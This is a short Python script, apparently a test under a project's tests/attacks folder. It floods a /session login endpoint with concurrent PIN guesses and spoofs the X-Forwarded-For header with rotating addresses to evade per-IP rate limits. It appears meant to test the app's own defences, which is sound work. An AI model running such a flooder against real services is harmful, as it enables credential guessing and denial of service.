"""Guesses everybody's PIN from as many addresses as it likes, until this process is ended.

python -m tests.attacks.flood URL LANES
"""

import asyncio
import sys

import aiohttp


async def guess(client: aiohttp.ClientSession, lane: int) -> None:
    number = 0
    while True:
        number += 1
        headers = {"X-Forwarded-For": f"10.{lane}.{number // 250 % 250}.{number % 250}"}
        body = {"username": f"nobody-{lane}-{number}", "pin": "0000"}
        async with client.post("/session", json=body, headers=headers) as response:
            await response.read()


async def main(url: str, lanes: int) -> None:
    connector = aiohttp.TCPConnector(limit=lanes)
    jar = aiohttp.DummyCookieJar()
    async with aiohttp.ClientSession(url, connector=connector, cookie_jar=jar) as client:
        await asyncio.gather(*(guess(client, lane) for lane in range(lanes)))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
